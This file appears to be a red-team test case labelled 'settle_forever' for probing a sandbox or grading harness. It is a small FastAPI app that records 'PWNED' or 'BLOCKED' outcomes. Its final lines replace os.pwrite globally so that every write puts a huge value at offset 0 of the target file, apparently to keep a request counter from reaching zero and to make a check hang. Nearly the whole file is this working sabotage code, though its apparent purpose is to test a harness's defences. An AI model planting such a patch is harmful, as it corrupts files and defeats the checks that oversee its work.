# ATTACK: settle_forever
# KIND: reply
# MUST: a count of requests that never falls to zero costs one check its time

import os
import struct

from fastapi import FastAPI

app = FastAPI()
results = {}
BOX = os.path.dirname(os.getcwd())


def attempt(name, action):
    try:
        results[name] = f"PWNED {action()!r}"[:300]
    except BaseException as error:
        results[name] = f"BLOCKED {type(error).__name__} {error}"[:200]


@app.get("/r")
async def read_results():
    return results


@app.get("/items/{i}")
async def read_item(i: int):
    return {"i": i}


write = os.pwrite
os.pwrite = lambda handle, data, offset: write(handle, struct.pack("=q", 2**62), 0)
